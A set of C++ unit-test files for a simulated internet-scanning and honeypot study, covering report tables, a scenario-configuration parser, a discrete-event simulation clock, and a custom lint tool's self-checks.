  const auto report = report_table5_misconfigured(study());
  // The total row's measured value equals the findings count.
  EXPECT_NE(report.find(util::with_commas(study().findings().size())),
            std::string::npos);
}

TEST_F(ScanReportsTest, Table6ListsEverySignature) {
  const auto report = report_table6_honeypots(study());
  for (const auto& signature : honeynet::honeypot_signatures()) {
    EXPECT_NE(report.find(std::string(signature.name)), std::string::npos)
        << signature.name;
  }
}

TEST_F(ScanReportsTest, Table10SharesArePercentages) {
  const auto report = report_table10_countries(study());
  EXPECT_NE(report.find("USA"), std::string::npos);
  EXPECT_NE(report.find('%'), std::string::npos);
}

TEST_F(ScanReportsTest, Fig2SharesPerProtocolSumToOne) {
  const auto histogram = classify::type_histogram(study().scan_db());
  for (const auto& [protocol, counter] : histogram) {
    double sum = 0;
    const double total = static_cast<double>(counter.total());
    for (const auto& [type, count] : counter.ranked()) {
      sum += count / total;
    }
    EXPECT_NEAR(sum, 1.0, 1e-9) << proto::protocol_name(protocol);
  }
}

TEST(ReportHelpers, EmptyStudySectionsStillRender) {
  // A study with no attack phase must render attack-side reports without
  // crashing (empty tables are fine).
  StudyConfig config;
  config.seed = 37;
  config.population_scale = 1.0 / 16'384;
  Study study(config);
  study.setup_internet();
  EXPECT_FALSE(report_fig4_attack_types(study).empty());
  EXPECT_FALSE(report_fig9_multistage(study).empty());
  EXPECT_FALSE(report_table8_telescope(study).empty());
  EXPECT_FALSE(report_table12_credentials(study).empty());
}

}  // namespace
}  // namespace ofh::core
