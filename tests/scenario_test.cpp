// Scenario language tests (core/scenario.h): the positive grammar surface,
// the negative-parse suite over the seeded fixtures in tests/scenarios/bad/
// (golden-pinned typed error text — the fuzzer's contract, made exact), and
// the runner's expectation-matching semantics end-to-end at micro scale.
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "core/scenario.h"

namespace ofh::core {
namespace {

std::optional<Scenario> parse(std::string_view text, ScenarioError* error) {
  return parse_scenario_text(text, "<test>", error);
}

// ------------------------------------------------------------- positives

TEST(ScenarioParse, FullGrammarSurface) {
  ScenarioError error;
  const auto scenario = parse(
      "// comment\n"
      "scenario  a titled   run\n"
      "\n"
      "seed 99\n"
      "scale 1/2048\n"
      "attack-scale 0.25\n"
      "duration-days 3\n"
      "scan-threads 2\n"
      "scan-batch 512\n"
      "scan-attempts 4\n"
      "session-attempts 2\n"
      "filter-honeypots off\n"
      "listing-boost 2.5\n"
      "telescope-range 44.0.0.0/8\n"
      "telescope-rate-scale 1/4000000\n"
      "telescope-source-scale 1/40000\n"
      "fault-budget 0.5\n"
      "roster dos off\n"
      "roster background off\n"
      "fault uniform-loss 0.05\n"
      "fault burst 0.01 0.2 0.8 100\n"
      "fault flap 10.0.0.0/16 0.5 0.75\n"
      "fault partition 10.0.0.0/16 11.0.0.0/16 1 1.5\n"
      "fault spike 10.0.0.0/8 0 1 250\n"
      "fault chaos 2\n"
      "report summary\n"
      "#^scenario summary$\n"
      "#devices=\\d+\n"
      "report degradation\n"
      "#conservation=OK\n",
      &error);
  ASSERT_TRUE(scenario.has_value()) << error.to_string();
  EXPECT_EQ(scenario->title, "a titled   run");
  const auto& config = scenario->config;
  EXPECT_EQ(config.seed, 99u);
  EXPECT_DOUBLE_EQ(config.population_scale, 1.0 / 2048);
  EXPECT_DOUBLE_EQ(config.attack_scale, 0.25);
  EXPECT_EQ(config.attack_duration, sim::days(3));
  EXPECT_EQ(config.scan_threads, 2u);
  EXPECT_EQ(config.scan_batch, 512u);
  EXPECT_EQ(config.scan_attempts, 4u);
  EXPECT_EQ(config.session_connect_attempts, 2);
  EXPECT_FALSE(config.filter_honeypots);
  EXPECT_DOUBLE_EQ(config.listing_boost, 2.5);
  EXPECT_DOUBLE_EQ(config.fault_budget, 0.5);
  EXPECT_FALSE(config.roster.dos);
  EXPECT_FALSE(config.roster.background);
  EXPECT_TRUE(config.roster.infected);
  EXPECT_DOUBLE_EQ(config.fault_schedule.uniform_loss, 0.05);
  EXPECT_TRUE(config.fault_schedule.burst.enabled);
  EXPECT_DOUBLE_EQ(config.fault_schedule.burst.loss_bad, 0.8);
  ASSERT_EQ(config.fault_schedule.windows.size(), 3u);
  EXPECT_EQ(config.fault_schedule.windows[0].kind, net::FaultKind::kLinkFlap);
  EXPECT_EQ(config.fault_schedule.windows[1].kind,
            net::FaultKind::kPartition);
  EXPECT_EQ(config.fault_schedule.windows[2].kind,
            net::FaultKind::kLatencySpike);
  EXPECT_EQ(config.fault_schedule.windows[2].magnitude, sim::msec(250));
  EXPECT_DOUBLE_EQ(scenario->chaos_end_days, 2.0);
  ASSERT_EQ(scenario->reports.size(), 2u);
  EXPECT_EQ(scenario->reports[0].name, "summary");
  ASSERT_EQ(scenario->reports[0].expectations.size(), 2u);
  EXPECT_EQ(scenario->reports[0].expectations[0].pattern,
            "^scenario summary$");
  // Expectation provenance: the '#' lines' own 1-based line numbers.
  EXPECT_EQ(scenario->reports[0].expectations[0].line, 27);
  EXPECT_EQ(scenario->reports[1].name, "degradation");
  EXPECT_FALSE(scenario->wants_baseline);
}

TEST(ScenarioParse, BaselineReportSetsWantsBaseline) {
  ScenarioError error;
  const auto scenario = parse("report degradation-vs-baseline\n", &error);
  ASSERT_TRUE(scenario.has_value());
  EXPECT_TRUE(scenario->wants_baseline);
}

TEST(ScenarioParse, CrlfAndMissingTrailingNewlineAccepted) {
  ScenarioError error;
  const auto scenario = parse("seed 7\r\nreport summary", &error);
  ASSERT_TRUE(scenario.has_value()) << error.to_string();
  EXPECT_EQ(scenario->config.seed, 7u);
  ASSERT_EQ(scenario->reports.size(), 1u);
}

TEST(ScenarioParse, FractionsAcceptedWhereScalesAre) {
  ScenarioError error;
  const auto scenario =
      parse("scale 1/16384\nattack-scale 3/4\n", &error);
  ASSERT_TRUE(scenario.has_value());
  EXPECT_DOUBLE_EQ(scenario->config.population_scale, 1.0 / 16384);
  EXPECT_DOUBLE_EQ(scenario->config.attack_scale, 0.75);
}

// ------------------------------------------------------------- negatives

struct NegativeCase {
  std::string_view text;
  ScenarioErrorCode code;
  int line;
};

TEST(ScenarioParse, TypedErrorsWithLineProvenance) {
  const NegativeCase cases[] = {
      {"scall 1\n", ScenarioErrorCode::kUnknownDirective, 1},
      {"seed 1\nseed 2\n", ScenarioErrorCode::kDuplicateDirective, 2},
      {"seed 1\nscale -1\n", ScenarioErrorCode::kOutOfRange, 2},
      {"scale 1e309\n", ScenarioErrorCode::kOutOfRange, 1},
      {"scale nan\n", ScenarioErrorCode::kOutOfRange, 1},
      {"scale 1/0\n", ScenarioErrorCode::kBadValue, 1},
      {"seed -3\n", ScenarioErrorCode::kBadValue, 1},
      {"seed 1 2\n", ScenarioErrorCode::kBadValue, 1},
      {"duration-days 9999\n", ScenarioErrorCode::kOutOfRange, 1},
      {"scan-batch 0\n", ScenarioErrorCode::kOutOfRange, 1},
      {"scan-attempts 17\n", ScenarioErrorCode::kOutOfRange, 1},
      {"filter-honeypots yes\n", ScenarioErrorCode::kBadValue, 1},
      {"telescope-range 23.0.0.0/8\n", ScenarioErrorCode::kOutOfRange, 1},
      {"telescope-range 44.0.0.0/33\n", ScenarioErrorCode::kBadValue, 1},
      {"telescope-range 44.0.0.0/30\n", ScenarioErrorCode::kOutOfRange, 1},
      {"roster infected maybe\n", ScenarioErrorCode::kBadValue, 1},
      {"roster aliens on\n", ScenarioErrorCode::kUnknownDirective, 1},
      {"roster dos off\nroster dos on\n",
       ScenarioErrorCode::kDuplicateDirective, 2},
      {"fault\n", ScenarioErrorCode::kBadValue, 1},
      {"fault warp 0.5\n", ScenarioErrorCode::kUnknownDirective, 1},
      {"fault uniform-loss 1.5\n", ScenarioErrorCode::kOutOfRange, 1},
      {"fault uniform-loss x\n", ScenarioErrorCode::kBadValue, 1},
      {"fault burst 0.01 0.2\n", ScenarioErrorCode::kBadValue, 1},
      {"fault burst 2 0.2 0.8\n", ScenarioErrorCode::kOutOfRange, 1},
      {"fault flap 10.0.0.0/16 2 1\n", ScenarioErrorCode::kOutOfRange, 1},
      {"fault flap not-a-cidr 0 1\n", ScenarioErrorCode::kBadValue, 1},
      {"fault spike 10.0.0.0/8 0 1\n", ScenarioErrorCode::kBadValue, 1},
      {"fault chaos 0\n", ScenarioErrorCode::kOutOfRange, 1},
      {"seed 1\n#orphan\n", ScenarioErrorCode::kOrphanExpectation, 2},
      {"report summary\n#(unclosed[\n", ScenarioErrorCode::kBadRegex, 2},
      {"report nosuch\n", ScenarioErrorCode::kUnknownReport, 1},
      {"report summary extra\n", ScenarioErrorCode::kBadValue, 1},
      {"scenario\n", ScenarioErrorCode::kBadValue, 1},
      {"// nothing\n\n", ScenarioErrorCode::kSyntax, 1},
      {"", ScenarioErrorCode::kSyntax, 1},
  };
  for (const auto& item : cases) {
    ScenarioError error;
    const auto scenario = parse(item.text, &error);
    EXPECT_FALSE(scenario.has_value())
        << "accepted: " << item.text;
    EXPECT_EQ(error.code, item.code)
        << item.text << " -> " << error.to_string();
    EXPECT_EQ(error.line, item.line) << error.to_string();
    EXPECT_FALSE(error.message.empty());
    EXPECT_EQ(error.file, "<test>");
  }
}

TEST(ScenarioParse, HostileSizesRejected) {
  ScenarioError error;
  // Overlong line.
  EXPECT_FALSE(parse("seed 1\n" + std::string(5000, 'x') + "\n", &error));
  EXPECT_EQ(error.code, ScenarioErrorCode::kSyntax);
  EXPECT_EQ(error.line, 2);
  // Too many lines.
  std::string many;
  for (int i = 0; i < 10'100; ++i) many += "\n";
  EXPECT_FALSE(parse(many, &error));
  EXPECT_EQ(error.code, ScenarioErrorCode::kSyntax);
  // Oversized file.
  EXPECT_FALSE(parse(std::string(2u << 20, ' '), &error));
  EXPECT_EQ(error.code, ScenarioErrorCode::kIo);
  // Overlong expectation pattern.
  EXPECT_FALSE(
      parse("report summary\n#" + std::string(600, 'a') + "\n", &error));
  EXPECT_EQ(error.code, ScenarioErrorCode::kBadRegex);
}

TEST(ScenarioParse, MissingFileIsTypedIoError) {
  ScenarioError error;
  EXPECT_FALSE(parse_scenario_file("/nonexistent/x.ofh", &error));
  EXPECT_EQ(error.code, ScenarioErrorCode::kIo);
  EXPECT_EQ(error.line, 0);
  EXPECT_EQ(error.to_string(), "/nonexistent/x.ofh:0: io-error: cannot open file");
}

// The negative corpus under tests/scenarios/bad/, golden-pinned: these are
// the exact strings scenario_runner prints, so error-text drift (which
// breaks scripts and muscle memory) fails here first.
TEST(ScenarioParse, BadFixtureCorpusGoldenErrors) {
  const std::string dir = std::string(OFH_SCENARIO_DIR) + "/bad/";
  const struct {
    std::string_view name;
    std::string_view expected;  // to_string() minus the directory prefix
  } fixtures[] = {
      {"bad_regex.ofh", "bad_regex.ofh:3: bad-regex: invalid regular expression"},
      {"bad_value.ofh", "bad_value.ofh:2: bad-value: roster infected: expected on or off"},
      {"duplicate_seed.ofh", "duplicate_seed.ofh:4: duplicate-directive: 'seed' already set"},
      {"empty.ofh", "empty.ofh:1: syntax-error: empty scenario (no directives)"},
      {"orphan_expectation.ofh", "orphan_expectation.ofh:3: orphan-expectation: expectation before any report directive"},
      {"out_of_range_scale.ofh", "out_of_range_scale.ofh:2: out-of-range: scale: population_scale must be in (0, 16]"},
      {"overlapping_telescope.ofh", "overlapping_telescope.ofh:2: out-of-range: telescope-range: telescope_range overlaps the population address pool"},
      {"unknown_directive.ofh", "unknown_directive.ofh:3: unknown-directive: unknown directive 'scall'"},
      {"unknown_report.ofh", "unknown_report.ofh:2: unknown-report: unknown report 'table99'"},
      {"zero_denominator.ofh", "zero_denominator.ofh:2: bad-value: 'scale': cannot parse '1/0'"},
  };
  for (const auto& fixture : fixtures) {
    const std::string path = dir + std::string(fixture.name);
    ScenarioError error;
    const auto scenario = parse_scenario_file(path, &error);
    EXPECT_FALSE(scenario.has_value()) << path;
    EXPECT_EQ(error.to_string(), dir + std::string(fixture.expected));
  }
}

// ----------------------------------------------------------- update helpers

TEST(ScenarioHelpers, EscapeExpectationRoundTrips) {
  const std::string_view lines[] = {
      "| Total    | 14,397,929  | 879            |",
      "scan: probes=442368 (100.0%) [ok] ^$ \\ {x} a+b?c*",
      "plain text",
  };
  for (const auto line : lines) {
    const std::string escaped = escape_expectation(line);
    const std::regex regex(escaped, std::regex_constants::ECMAScript);
    EXPECT_TRUE(std::regex_search(std::string(line), regex)) << escaped;
    // And anchored: the escape matches the line it came from, entirely.
    EXPECT_TRUE(std::regex_match(std::string(line), regex)) << escaped;
  }
}

TEST(ScenarioHelpers, LiteralPrefixStopsAtMetacharacters) {
  EXPECT_EQ(expectation_literal_prefix("population: devices=\\d+"),
            "population: devices=");
  EXPECT_EQ(expectation_literal_prefix("^scenario summary$"), "");
  EXPECT_EQ(expectation_literal_prefix("plain"), "plain");
  EXPECT_EQ(expectation_literal_prefix("a\\|b.*"), "a|b");
  EXPECT_EQ(expectation_literal_prefix(""), "");
}

// --------------------------------------------------------------- running

TEST(ScenarioRun, MicroScenarioMatchesAndReportsFailuresWithProvenance) {
  ScenarioError error;
  const auto scenario = parse_scenario_text(
      "scenario micro\n"
      "seed 3\n"
      "scale 1/131072\n"
      "attack-scale 1/1024\n"
      "duration-days 0.25\n"
      "report summary\n"
      "#^scenario summary$\n"
      "#population: devices=\\d+\n"
      "#never-going-to-match-9f2e\n",
      "micro.ofh", &error);
  ASSERT_TRUE(scenario.has_value()) << error.to_string();

  ScenarioRunOptions options;
  options.thread_sweep = {1};
  const auto result = run_scenario(*scenario, options);
  EXPECT_FALSE(result.passed);
  ASSERT_EQ(result.failures.size(), 1u);
  // First-unmatched-line failure with file:line provenance.
  EXPECT_NE(result.failures[0].find("micro.ofh:9"), std::string::npos)
      << result.failures[0];
  EXPECT_NE(result.failures[0].find("never-going-to-match-9f2e"),
            std::string::npos);
  ASSERT_EQ(result.reports.size(), 1u);
  EXPECT_EQ(result.reports[0].name, "summary");
  EXPECT_NE(result.reports[0].text.find("scenario summary"),
            std::string::npos);
}

TEST(ScenarioRun, ExpectationsMatchInOrderNotAnywhere) {
  // Two expectations that both exist in the report but in the other order:
  // ordered matching must fail the second one.
  ScenarioError error;
  const auto scenario = parse_scenario_text(
      "seed 3\n"
      "scale 1/131072\n"
      "attack-scale 1/1024\n"
      "duration-days 0.25\n"
      "report summary\n"
      "#telescope: flowtuples=\n"
      "#population: devices=\n",
      "order.ofh", &error);
  ASSERT_TRUE(scenario.has_value()) << error.to_string();
  ScenarioRunOptions options;
  options.thread_sweep = {1};
  const auto result = run_scenario(*scenario, options);
  EXPECT_FALSE(result.passed);
  ASSERT_EQ(result.failures.size(), 1u);
  EXPECT_NE(result.failures[0].find("order.ofh:7"), std::string::npos)
      << result.failures[0];
}

}  // namespace
}  // namespace ofh::core
