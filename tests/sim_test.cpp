#include <gtest/gtest.h>

#include <array>
#include <memory>
#include <utility>
#include <vector>

#include "sim/simulation.h"
#include "util/rng.h"

namespace ofh::sim {
namespace {

TEST(Time, DurationHelpers) {
  EXPECT_EQ(msec(1), 1000u);
  EXPECT_EQ(seconds(1), 1'000'000u);
  EXPECT_EQ(minutes(2), 120'000'000u);
  EXPECT_EQ(hours(1), 3'600'000'000u);
  EXPECT_EQ(days(30), 30ull * 24 * 3600 * 1'000'000);
  EXPECT_EQ(to_seconds(seconds(90)), 90u);
  EXPECT_EQ(to_days(days(3) + hours(1)), 3u);
}

TEST(Time, FormatTime) {
  EXPECT_EQ(format_time(0), "d00 00:00:00.000000");
  EXPECT_EQ(format_time(days(2) + hours(3) + minutes(4) + seconds(5) + 6),
            "d02 03:04:05.000006");
}

TEST(Simulation, RunsEventsInTimeOrder) {
  Simulation sim;
  std::vector<int> order;
  sim.at(30, [&] { order.push_back(3); });
  sim.at(10, [&] { order.push_back(1); });
  sim.at(20, [&] { order.push_back(2); });
  sim.run();
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
  EXPECT_EQ(sim.now(), 30u);
  EXPECT_EQ(sim.events_processed(), 3u);
}

TEST(Simulation, TiesAreFifo) {
  Simulation sim;
  std::vector<int> order;
  for (int i = 0; i < 10; ++i) {
    sim.at(5, [&order, i] { order.push_back(i); });
  }
  sim.run();
  for (int i = 0; i < 10; ++i) EXPECT_EQ(order[i], i);
}

TEST(Simulation, AfterSchedulesRelative) {
  Simulation sim;
  Time fired = 0;
  sim.at(100, [&] {
    sim.after(50, [&] { fired = sim.now(); });
  });
  sim.run();
  EXPECT_EQ(fired, 150u);
}

TEST(Simulation, PastEventsClampToNow) {
  Simulation sim;
  Time fired = 0;
  sim.at(100, [&] {
    sim.at(10, [&] { fired = sim.now(); });  // in the past
  });
  sim.run();
  EXPECT_EQ(fired, 100u);
}

TEST(Simulation, RunUntilStopsAtDeadlineAndAdvancesClock) {
  Simulation sim;
  int fired = 0;
  sim.at(10, [&] { ++fired; });
  sim.at(200, [&] { ++fired; });
  sim.run_until(100);
  EXPECT_EQ(fired, 1);
  EXPECT_EQ(sim.now(), 100u);  // clock ends at the deadline
  EXPECT_EQ(sim.pending(), 1u);
  sim.run_until(300);
  EXPECT_EQ(fired, 2);
}

TEST(Simulation, EventsMayScheduleMoreEvents) {
  Simulation sim;
  int count = 0;
  std::function<void()> chain = [&] {
    if (++count < 100) sim.after(1, chain);
  };
  sim.after(1, chain);
  sim.run();
  EXPECT_EQ(count, 100);
  EXPECT_EQ(sim.now(), 100u);
}

TEST(Simulation, StepReturnsFalseWhenIdle) {
  Simulation sim;
  EXPECT_FALSE(sim.step());
  sim.at(1, [] {});
  EXPECT_TRUE(sim.step());
  EXPECT_FALSE(sim.step());
}

TEST(Simulation, RunUntilNeverRewindsClock) {
  // Regression: run_until used to set now_ = deadline unconditionally, so a
  // deadline earlier than now() rewound the clock and broke monotonicity.
  Simulation sim;
  sim.run_until(100);
  EXPECT_EQ(sim.now(), 100u);
  sim.run_until(50);  // in the past: must be a no-op
  EXPECT_EQ(sim.now(), 100u);
  Time fired = 0;
  sim.after(10, [&] { fired = sim.now(); });
  sim.run();
  EXPECT_EQ(fired, 110u);  // not 60: relative times stay anchored at 100
}

TEST(Simulation, LargeClosuresFallBackToHeap) {
  // A capture larger than SmallCallable's inline buffer takes the heap
  // path; behaviour must be identical.
  Simulation sim;
  std::array<std::uint64_t, 32> payload{};  // 256 bytes
  for (std::size_t i = 0; i < payload.size(); ++i) payload[i] = i;
  std::uint64_t sum = 0;
  sim.at(5, [payload, &sum] {
    for (const auto v : payload) sum += v;
  });
  sim.run();
  EXPECT_EQ(sum, 32u * 31u / 2);
}

TEST(Simulation, ArenaRecyclesNodesAcrossWaves) {
  // Repeated schedule/drain waves exercise the free list; every event must
  // fire exactly once regardless of node reuse.
  Simulation sim;
  int fired = 0;
  for (int wave = 0; wave < 10; ++wave) {
    for (int i = 0; i < 1'000; ++i) {
      sim.after(static_cast<Duration>(i + 1), [&fired] { ++fired; });
    }
    sim.run();
  }
  EXPECT_EQ(fired, 10'000);
  EXPECT_EQ(sim.pending(), 0u);
}

TEST(Simulation, RandomInsertionFiresInTimeOrderWithFifoTies) {
  Simulation sim;
  util::Rng rng(7);
  std::vector<std::pair<Time, int>> fired;  // (time, insertion index)
  for (int i = 0; i < 500; ++i) {
    const Time t = rng.below(50);
    sim.at(t, [&sim, &fired, i] { fired.push_back({sim.now(), i}); });
  }
  sim.run();
  ASSERT_EQ(fired.size(), 500u);
  for (std::size_t i = 1; i < fired.size(); ++i) {
    ASSERT_LE(fired[i - 1].first, fired[i].first);
    if (fired[i - 1].first == fired[i].first) {
      ASSERT_LT(fired[i - 1].second, fired[i].second);  // FIFO ties
    }
  }
}

TEST(SmallCallable, InlineCaptureDestroyedExactlyOnce) {
  auto token = std::make_shared<int>(5);
  {
    SmallCallable callable([token] {});
    EXPECT_EQ(token.use_count(), 2);
    SmallCallable moved = std::move(callable);
    EXPECT_EQ(token.use_count(), 2);  // moved, not copied
  }
  EXPECT_EQ(token.use_count(), 1);
}

TEST(SmallCallable, HeapCaptureDestroyedExactlyOnce) {
  auto token = std::make_shared<int>(5);
  std::array<char, 128> ballast{};  // forces the heap fallback
  {
    SmallCallable callable([token, ballast] { (void)ballast; });
    EXPECT_EQ(token.use_count(), 2);
    SmallCallable moved = std::move(callable);
    EXPECT_EQ(token.use_count(), 2);
    int calls = 0;
    SmallCallable counter([&calls] { ++calls; });
    counter();
    counter();
    EXPECT_EQ(calls, 2);
  }
  EXPECT_EQ(token.use_count(), 1);
}

}  // namespace
}  // namespace ofh::sim
