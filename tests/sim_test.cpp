#include <gtest/gtest.h>

#include "sim/simulation.h"

namespace ofh::sim {
namespace {

TEST(Time, DurationHelpers) {
  EXPECT_EQ(msec(1), 1000u);
  EXPECT_EQ(seconds(1), 1'000'000u);
  EXPECT_EQ(minutes(2), 120'000'000u);
  EXPECT_EQ(hours(1), 3'600'000'000u);
  EXPECT_EQ(days(30), 30ull * 24 * 3600 * 1'000'000);
  EXPECT_EQ(to_seconds(seconds(90)), 90u);
  EXPECT_EQ(to_days(days(3) + hours(1)), 3u);
}

TEST(Time, FormatTime) {
  EXPECT_EQ(format_time(0), "d00 00:00:00.000000");
  EXPECT_EQ(format_time(days(2) + hours(3) + minutes(4) + seconds(5) + 6),
            "d02 03:04:05.000006");
}

TEST(Simulation, RunsEventsInTimeOrder) {
  Simulation sim;
  std::vector<int> order;
  sim.at(30, [&] { order.push_back(3); });
  sim.at(10, [&] { order.push_back(1); });
  sim.at(20, [&] { order.push_back(2); });
  sim.run();
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
  EXPECT_EQ(sim.now(), 30u);
  EXPECT_EQ(sim.events_processed(), 3u);
}

TEST(Simulation, TiesAreFifo) {
  Simulation sim;
  std::vector<int> order;
  for (int i = 0; i < 10; ++i) {
    sim.at(5, [&order, i] { order.push_back(i); });
  }
  sim.run();
  for (int i = 0; i < 10; ++i) EXPECT_EQ(order[i], i);
}

TEST(Simulation, AfterSchedulesRelative) {
  Simulation sim;
  Time fired = 0;
  sim.at(100, [&] {
    sim.after(50, [&] { fired = sim.now(); });
  });
  sim.run();
  EXPECT_EQ(fired, 150u);
}

TEST(Simulation, PastEventsClampToNow) {
  Simulation sim;
  Time fired = 0;
  sim.at(100, [&] {
    sim.at(10, [&] { fired = sim.now(); });  // in the past
  });
  sim.run();
  EXPECT_EQ(fired, 100u);
}

TEST(Simulation, RunUntilStopsAtDeadlineAndAdvancesClock) {
  Simulation sim;
  int fired = 0;
  sim.at(10, [&] { ++fired; });
  sim.at(200, [&] { ++fired; });
  sim.run_until(100);
  EXPECT_EQ(fired, 1);
  EXPECT_EQ(sim.now(), 100u);  // clock ends at the deadline
  EXPECT_EQ(sim.pending(), 1u);
  sim.run_until(300);
  EXPECT_EQ(fired, 2);
}

TEST(Simulation, EventsMayScheduleMoreEvents) {
  Simulation sim;
  int count = 0;
  std::function<void()> chain = [&] {
    if (++count < 100) sim.after(1, chain);
  };
  sim.after(1, chain);
  sim.run();
  EXPECT_EQ(count, 100);
  EXPECT_EQ(sim.now(), 100u);
}

TEST(Simulation, StepReturnsFalseWhenIdle) {
  Simulation sim;
  EXPECT_FALSE(sim.step());
  sim.at(1, [] {});
  EXPECT_TRUE(sim.step());
  EXPECT_FALSE(sim.step());
}

}  // namespace
}  // namespace ofh::sim
