// ofh-lint self-test: the lint lints itself. The fixture corpus under
// tools/lint/fixtures/ seeds every known-bad pattern with an
// `// EXPECT: <rule>` marker; this suite asserts the lint flags 100% of
// them (and nothing else), that justification-free suppressions are
// rejected, and that src/ itself is clean under the repo configuration —
// the static half of the byte-identical-replay contract.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "config.h"
#include "driver.h"
#include "lexer.h"
#include "rules.h"

namespace {

using ofh::lint::Config;
using ofh::lint::Finding;
using ofh::lint::Severity;

const std::filesystem::path kRepoRoot = OFH_REPO_ROOT;

std::string read_file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

// Fixtures are linted with every rule active and unscoped: path scoping is
// exercised separately (DomainScoping below), the corpus exercises the
// patterns themselves.
Config fixture_config() {
  Config config = Config::defaults();
  for (auto& [rule, rule_config] : config.rules) {
    rule_config.paths.clear();
    rule_config.allow_paths.clear();
  }
  return config;
}

// (line, rule) pairs demanded by the EXPECT markers in a fixture.
std::set<std::pair<std::uint32_t, std::string>> expectations(
    const std::string& source) {
  std::set<std::pair<std::uint32_t, std::string>> expected;
  for (const auto& comment : ofh::lint::lex(source).comments) {
    const auto marker = comment.text.find("EXPECT:");
    if (marker == std::string::npos) continue;
    std::stringstream ss(comment.text.substr(marker + 7));
    std::string rule;
    while (std::getline(ss, rule, ',')) {
      const auto begin = rule.find_first_not_of(" \t");
      const auto end = rule.find_last_not_of(" \t");
      if (begin == std::string::npos) continue;
      expected.insert({comment.line, rule.substr(begin, end - begin + 1)});
    }
  }
  return expected;
}

std::string describe(const Finding& finding) {
  return finding.file + ":" + std::to_string(finding.line) + " [" +
         finding.rule + "] " + finding.message;
}

// Every seeded bad pattern must be flagged, and nothing unseeded may be:
// 100% recall on the corpus is the acceptance bar, and precision keeps the
// burn-down honest.
TEST(LintFixtures, CorpusFullyFlaggedAndNothingElse) {
  const Config config = fixture_config();
  const auto files =
      ofh::lint::collect_files(kRepoRoot, {"tools/lint/fixtures"});
  ASSERT_GE(files.size(), 6u) << "fixture corpus went missing";

  std::size_t seeded = 0;
  for (const auto& relpath : files) {
    const auto expected = expectations(read_file(kRepoRoot / relpath));
    seeded += expected.size();
    std::set<std::pair<std::uint32_t, std::string>> actual;
    for (const auto& finding :
         ofh::lint::lint_file(config, kRepoRoot, relpath, nullptr)) {
      actual.insert({finding.line, finding.rule});
    }
    for (const auto& [line, rule] : expected) {
      EXPECT_TRUE(actual.count({line, rule}) != 0)
          << relpath << ":" << line << " expected [" << rule
          << "] but the lint missed it";
    }
    for (const auto& [line, rule] : actual) {
      EXPECT_TRUE(expected.count({line, rule}) != 0)
          << relpath << ":" << line << " unexpected [" << rule << "]";
    }
  }
  // The corpus must keep seeding a meaningful spread of bad patterns.
  EXPECT_GE(seeded, 20u);
}

// The corpus covers every rule in the catalog (except the meta rules'
// happy paths, which the suppression fixture seeds directly).
TEST(LintFixtures, CorpusCoversEveryRule) {
  const auto files =
      ofh::lint::collect_files(kRepoRoot, {"tools/lint/fixtures"});
  std::set<std::string> seeded_rules;
  for (const auto& relpath : files) {
    for (const auto& [line, rule] :
         expectations(read_file(kRepoRoot / relpath))) {
      seeded_rules.insert(rule);
    }
  }
  for (const auto& [rule, rule_config] : Config::defaults().rules) {
    EXPECT_TRUE(seeded_rules.count(rule) != 0)
        << "no fixture seeds rule '" << rule << "'";
  }
}

// A suppression without a justification is rejected and does not suppress.
TEST(LintPragmas, JustificationRequired) {
  const Config config = fixture_config();
  const auto findings = ofh::lint::lint_source(
      config, "src/core/x.cpp",
      "long f() {\n"
      "  return time(nullptr);  // ofh-lint: allow(wall-clock)\n"
      "}\n");
  std::set<std::string> rules;
  for (const auto& finding : findings) rules.insert(finding.rule);
  EXPECT_TRUE(rules.count("bad-pragma") != 0);
  EXPECT_TRUE(rules.count("wall-clock") != 0) << "bad pragma must not suppress";
}

TEST(LintPragmas, JustifiedSuppressionSilences) {
  const Config config = fixture_config();
  const auto findings = ofh::lint::lint_source(
      config, "src/core/x.cpp",
      "long f() {\n"
      "  return time(nullptr);  // ofh-lint: allow(wall-clock) — wall "
      "profile channel, quarantined from exports\n"
      "}\n");
  EXPECT_TRUE(findings.empty())
      << (findings.empty() ? "" : describe(findings.front()));
}

// The obs wall-metric domain is the one place wall reads are sanctioned.
TEST(LintScoping, WallDomainSplit) {
  const Config config = Config::defaults();
  const std::string source =
      "#include <chrono>\n"
      "long f() { return std::chrono::steady_clock::now()"
      ".time_since_epoch().count(); }\n";
  EXPECT_TRUE(ofh::lint::lint_source(config, "src/obs/wall.cpp", source)
                  .empty());
  const auto findings =
      ofh::lint::lint_source(config, "src/core/study.cpp", source);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].rule, "wall-clock");
}

TEST(LintConfig, UnknownRuleInConfigFails) {
  const auto path =
      std::filesystem::temp_directory_path() / "ofh_lint_bad_config.toml";
  std::ofstream(path) << "[rule.no-such-rule]\nseverity = \"off\"\n";
  std::string error;
  EXPECT_FALSE(Config::load(path.string(), &error).has_value());
  EXPECT_NE(error.find("no-such-rule"), std::string::npos);
  std::filesystem::remove(path);
}

TEST(LintConfig, SeverityAndScopingOverrides) {
  const auto path =
      std::filesystem::temp_directory_path() / "ofh_lint_config.toml";
  std::ofstream(path) << "[rule.wall-clock]\n"
                         "severity = \"warn\"\n"
                         "allow-paths = [\"src/obs/\", \"src/bench/\"]\n";
  std::string error;
  const auto config = Config::load(path.string(), &error);
  ASSERT_TRUE(config.has_value()) << error;
  EXPECT_EQ(config->severity("wall-clock"), Severity::kWarn);
  EXPECT_FALSE(config->applies("wall-clock", "src/bench/x.cpp"));
  EXPECT_TRUE(config->applies("wall-clock", "src/core/x.cpp"));
  std::filesystem::remove(path);
}

// The load-bearing gate: src/ is clean under the repo configuration.
// Every deliberate wall-clock read or unordered iteration must carry a
// justified suppression; anything else is a regression.
TEST(LintSrcTree, CleanUnderRepoConfig) {
  std::string error;
  const auto config =
      Config::load((kRepoRoot / ".ofh-lint.toml").string(), &error);
  ASSERT_TRUE(config.has_value()) << error;
  const auto files = ofh::lint::collect_files(kRepoRoot, {"src"});
  ASSERT_GE(files.size(), 100u) << "src/ went missing";
  const auto findings = ofh::lint::lint_files(*config, kRepoRoot, files,
                                              nullptr);
  for (const auto& finding : findings) {
    ADD_FAILURE() << describe(finding);
  }
}

